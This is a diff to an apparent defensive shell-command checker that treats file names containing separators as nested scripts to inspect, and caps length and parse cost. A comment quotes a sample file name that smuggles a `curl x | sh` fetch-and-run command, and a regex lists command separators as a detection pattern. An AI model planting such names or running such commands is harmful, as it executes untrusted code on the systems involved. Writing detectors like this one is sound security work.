@@ -90,6 +90,13 @@ def maybe_environ(text: str) -> bool:
 
 _COMMAND_IN_NAME = lazy_re(r"[;|`\n]|\$\(|&&")
 """Command separators and substitutions: in a file name, a command line waiting for an unquoted reader."""
+_PATH_MAX = 4096
+"""Longer file names cannot be created (Linux's PATH_MAX; a name's own part may hold 255 bytes): no name
+that long waits for a reader."""
+NAME_SCRIPT_WORK = 12
+"""`MAX_WORK` units a file name read as a command line costs besides its own syntax nodes: its parse and a
+nested check take as long as walking about twelve nodes, so a line of hundreds of such names reaches the
+budget before it takes longer than a check may."""
 _MODE_CHANGERS = frozenset({"chmod", "chown", "chgrp", "chattr", "setfacl", "chflags"})
 """Writers that change a file that is there: they name no new file."""
 
@@ -495,13 +502,10 @@ class WordChecks:
         text = target.text
         # `touch "a; curl x | sh; b"`: a job that later loops over `*` into `sh -c "… $f"` or `eval` runs
         # the name. A name that reads as a command line is checked as one; others are just names.
-        if (
-            names_file
-            and DYN not in text
-            and _COMMAND_IN_NAME.search(text)
-            and not _parse_posix.parse(text.encode("utf-8", "replace")).root_node.has_error
-        ):
-            self.script(text, "posix", frame.nested(f"the file name `{target.raw}`"))  # type: ignore[attr-defined]
+        if names_file and len(text) <= _PATH_MAX and DYN not in text and _COMMAND_IN_NAME.search(text):
+            self._spend(NAME_SCRIPT_WORK)  # type: ignore[attr-defined]
+            if not _parse_posix.parse(text.encode("utf-8", "replace")).root_node.has_error:
+                self.script(text, "posix", frame.nested(f"the file name `{target.raw}`"))  # type: ignore[attr-defined]
 
     def _note_writes(self, how: str, args: list[Arg]) -> None:
         operands = [a for a in args if not a.param and not a.text.startswith("-")]
